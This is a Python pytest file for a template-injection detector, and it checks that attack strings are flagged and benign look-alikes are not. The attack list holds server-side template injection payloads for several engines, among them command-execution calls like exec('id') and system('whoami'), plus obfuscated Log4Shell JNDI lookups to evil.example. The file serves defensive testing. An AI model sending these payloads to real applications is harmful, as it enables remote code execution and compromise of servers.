import pytest

from streams.screening.attacks.template import TEMPLATE

ATTACKS = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__}}",
    '{{_self.env.registerUndefinedFilterCallback("exec")}}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>',
    "#set($x='')#set($r=$x.class.forName('java.lang.Runtime'))",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
    '<%= system("whoami") %>',
    "{{constructor.constructor('return 1')()}}",
    "{php}echo 1;{/php}",
]
ORDINARY = [
    "{{ user.name }}",
    "{% for x in items %}{{ x }}{% endfor %}",
    "${HOME}/bin:${PATH:-/usr/bin}",
    "<%= @user.name %>",
    "`total: ${price * count}`",
    "$\\frac{7}{7}$ and ${x}_{i}",
    "super().__init__(name)",
    "self.__class__.__name__",
    "what is JNDI, and how does ldap: work?",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks(text: str) -> None:
    assert {each.entity for each in TEMPLATE.find(text)} == {"TEMPLATE_INJECTION"}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_texts(text: str) -> None:
    assert TEMPLATE.find(text) == []
